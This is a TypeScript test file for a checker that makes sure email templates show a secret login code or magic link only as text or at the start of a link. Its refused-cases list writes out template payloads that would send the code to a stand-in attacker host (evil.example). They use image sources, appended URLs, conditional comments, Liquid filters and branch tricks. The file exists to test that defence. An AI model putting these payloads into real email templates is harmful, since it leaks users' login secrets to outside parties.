import t from 'tap'
import { findBuiltIn } from '../src/built-in/catalogue.ts'
import { secretProblem } from '../src/secret-places.ts'

t.test('a link or code may stand in text, and a link where a link begins', async (t) => {
  const fine = [
    '<p>{{ code }}</p>',
    '<p title="{{ minutes }}">{% if minutes > 1 %}<b>{{ code | append: "!" }}</b>{% endif %}</p>',
    '<a class="b" href="{{ code }}">{{ code }}</a>',
    "<a href = '{{- code -}}'>in</a>",
    '<!-- {{ minutes }} -->{{ code }}',
    '<!-->{{ code }}<!--->{{ code }}',
  ]
  for (const html of fine) t.equal(secretProblem(html, 'code'), null, html)
  for (const [name, secret] of [
    ['magic_link', 'link'],
    ['otp', 'code'],
  ] as const)
    t.equal(secretProblem(findBuiltIn(name, 'en', null)?.parts.email?.html ?? '', secret), null, name)
})

t.test('no page hands a link or code to whoever its pictures or links belong to', async (t) => {
  const place = '“code” must stand in text, or begin an href'
  const tag = 'a tag cannot ask for “code”'
  const branch = 'in this page a tag must stand in text'
  const refused: readonly (readonly [string, number, string])[] = [
    ['<img src="https://evil.example/{{ code }}">', 32, place],
    ['<img src="{{ code }}">', 11, place],
    ['<a href="https://evil.example/?{{ code }}">', 32, place],
    ['<a href="{{ "https://evil.example/" | append: code }}">', 10, place],
    ['<a href="{{ code | replace: "//", "//evil." }}">', 10, place],
    ['<a href="{{ minutes }}{{ code }}">', 23, place],
    ['<a href=\'https://evil.example/ href="{{ code }}"\'>', 38, place],
    ['<img alt="{{ code }}">', 11, place],
    ['<!--[if mso]><img src="https://evil.example/{{ code }}"><![endif]-->', 45, place],
    ['<!--><img src="https://evil.example/{{ code }}">', 37, place],
    ['<!-- --!><img src="https://evil.example/{{ code }}">', 41, place],
    ['< {{- "" -}} img src="https://evil.example/{{ code }}">', 44, place],
    ['{% assign x = code %}<img src="https://evil.example/{{ x }}">', 1, tag],
    ['{% if code contains "1" %}<img src="https://evil.example/1">{% endif %}', 1, tag],
    ['<img src="https://evil.example/{% if false %}">{% endif %}{{ code }}">', 32, branch],
    ['<img{% if false %}>{% endif %} src="https://evil.example/{{ code }}">', 5, branch],
  ]
  for (const [html, column, problem] of refused)
    t.match(secretProblem(html, 'code'), { part: 'email.html', line: 1, column, problem }, html)
})
